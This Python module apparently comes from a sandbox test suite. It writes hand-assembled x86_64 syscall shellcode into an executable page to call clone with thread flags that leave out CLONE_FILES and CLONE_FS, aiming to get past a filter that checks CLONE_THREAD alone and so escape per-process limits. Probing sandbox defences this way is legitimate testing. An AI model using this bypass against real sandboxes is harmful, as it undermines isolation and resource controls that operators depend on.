"""Make a thread that shares less than threads do.

Attacks: what is counted per process.
How: clone with CLONE_THREAD but without CLONE_FILES or CLONE_FS: a descriptor table, and so a limit, of its own.
Source: clone(2); reading the sandbox's filter, which looked for CLONE_THREAD alone.
Breach: such a thread starts.
"""

import ctypes

from kernel import libc, went_through

GROUP, CONTROL, NEEDS = "processes", True, "x86_64"
_VM, _FS, _FILES, _SIGHAND, _THREAD, _SYSVSEM = 0x100, 0x200, 0x400, 0x800, 0x10000, 0x40000
# The new thread returns into `ret` slots that lead to exit(0): mov eax,60; xor edi,edi; syscall
_EXIT = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"
# rax=56 with flags in rdi and stack in rsi, as given; the child runs on with exit(0), the parent returns
_CODE = b"\xb8\x38\x00\x00\x00\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05\x85\xc0\x74\x01\xc3" + _EXIT


def _start(flags):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    page = libc.mmap(None, 65536, 7, 0x22, -1, 0)
    ctypes.memmove(page, _CODE, len(_CODE))
    answer = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long)(page)(flags, page + 65536 - 256)
    if answer < 0:
        raise OSError(-answer, "clone")
    return answer


def attack(outside):
    whole = _VM | _SIGHAND | _THREAD
    return went_through(
        no_files=lambda: _start(whole | _FS),
        no_folder=lambda: _start(whole | _FILES),
        neither=lambda: _start(whole),
    )
